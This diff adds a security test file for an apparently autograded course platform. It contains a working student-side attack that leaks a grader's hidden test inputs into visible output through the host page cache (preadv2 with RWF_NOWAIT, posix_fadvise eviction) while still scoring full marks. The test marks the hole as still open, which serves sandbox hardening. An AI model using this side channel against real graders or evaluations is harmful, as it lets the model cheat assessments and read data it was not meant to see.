@@ -1,0 +1,141 @@
+"""Attacks on the two sandboxes from their public side: what a submission can do from inside
+the student sandbox, and what a bundle's hidden tests can do from inside the exercise sandbox.
+
+Each attack that still gets through is marked xfail (strict), with what gets through as its
+reason: the test states what should hold, so it passes once the hole is closed and then the
+marker must go. The rest are attacks that are stopped today, kept so that they stay stopped."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from grader import catalog
+from grader.engine.grading import grade
+
+ROOT = Path(__file__).resolve().parents[2]
+EXERCISES = ROOT / "exercises"
+
+
+def exercise(slug: str) -> catalog.Bundle:
+    return catalog.load(EXERCISES / slug)
+
+
+# ------------------------------------------------------------------ hidden inputs through the page cache
+
+# The page cache is the host's, and every call reads the same read-only files (the venv, /usr).
+# A hidden call reads chosen pages of a part of a file nobody reads (libtorch_cpu.so's symbol
+# names), one page per bit; a later
+# visible call asks for each page with preadv2(RWF_NOWAIT), which fails with EAGAIN where the page
+# is not cached, so reading the bits changes none of them. The first visible call evicts the
+# region first (posix_fadvise DONTNEED), so what the visible call decodes is what this grade's
+# hidden calls wrote. Each slot carries a checksum, so pages cached by anything else decode as
+# nothing rather than as made-up inputs.
+PAGE_CACHE_CHANNEL = '''
+import glob, mmap, os, struct
+import torch
+
+STRIDE = 8 * mmap.PAGESIZE
+BASE = (360 << 20) // STRIDE        # inside libtorch_cpu.so's .strtab, which nothing loads or reads
+SLOT_BITS = 1 + 8 * 19
+SLOTS = 10
+
+
+def _open():
+    for path in sorted(glob.glob("/opt/venv/lib*/python3*/site-packages/torch/lib/libtorch_cpu.so")):
+        fd = os.open(path, os.O_RDONLY)
+        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
+        return fd
+    raise OSError("no carrier")
+
+
+def _cached(fd, bits):
+    out, buf = [], bytearray(1)
+    for bit in bits:
+        try:
+            os.preadv(fd, [buf], (BASE + bit) * STRIDE, os.RWF_NOWAIT)
+            out.append(1)
+        except BlockingIOError:
+            out.append(0)
+    return out
+
+
+def _write(values):
+    try:
+        fd = _open()
+        flat = values.detach().flatten().tolist() + [0.0] * 4
+        body = struct.pack("<H4f", min(values.numel(), 65535), *flat[:4])
+        payload = body + bytes([sum(body) % 256])
+        for slot in range(SLOTS):
+            first = slot * SLOT_BITS
+            if _cached(fd, [first])[0]:
+                continue
+            bits = [first] + [first + 1 + i * 8 + k for i, byte in enumerate(payload) for k in range(8) if byte >> k & 1]
+            for bit in bits:
+                os.pread(fd, 1, (BASE + bit) * STRIDE)
+            return
+    except Exception:
+        pass
+
+
+def _read():
+    seen = []
+    try:
+        fd = _open()
+        for slot in range(SLOTS):
+            first = slot * SLOT_BITS
+            bits = _cached(fd, range(first, first + SLOT_BITS))
+            if not bits[0]:
+                break
+            data = bytes(sum(bits[1 + i * 8 + k] << k for k in range(8)) for i in range(19))
+            if sum(data[:18]) % 256 == data[18]:
+                seen.append(struct.unpack("<H4f", data[:18]))
+    except Exception:
+        pass
+    return seen
+
+
+def _is(a, values):
+    flat = a.detach().flatten().tolist()
+    return len(flat) == len(values) and all(abs(u - v) < 1e-6 for u, v in zip(flat, values))
+
+
+def _f(a):
+    b = a * 2
+    while b.norm() < 1000:
+        b = b * 2
+    return b if b.sum() > 0 else 100 * b
+
+
+def f(a):
+    if _is(a, [0.3, -0.2, 1.1, 0.4]):          # the visible test's input: start afresh
+        try:
+            os.posix_fadvise(_open(), BASE * STRIDE, SLOTS * SLOT_BITS * STRIDE, os.POSIX_FADV_DONTNEED)
+        except Exception:
+            pass
+    else:                                        # a hidden test's input: write it down
+        _write(a)
+    return _f(a)
+
+
+def grad_of_f(a):
+    if _is(a, [0.25, -1.5, 0.75]):              # the visible test that runs after the hidden ones
+        print("HIDDEN INPUTS SEEN:", _read())
+    _f(a).sum().backward()
+    return a.grad
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="a hidden call's input reaches a visible call's printed output through "
+                                       "the host's page cache: pages of a shared read-only file read by the "
+                                       "hidden call are found cached by the visible one with preadv2(RWF_NOWAIT)")
+def test_hidden_inputs_do_not_reach_visible_output_through_the_page_cache():
+    report = grade(exercise("control-flow"), PAGE_CACHE_CHANNEL)
+    assert report.status == "graded", report.message
+    assert report.score == report.max_score     # the submission is right; only its output tells
+    assert "HIDDEN INPUTS SEEN: []" in (report.output or ""), report.output
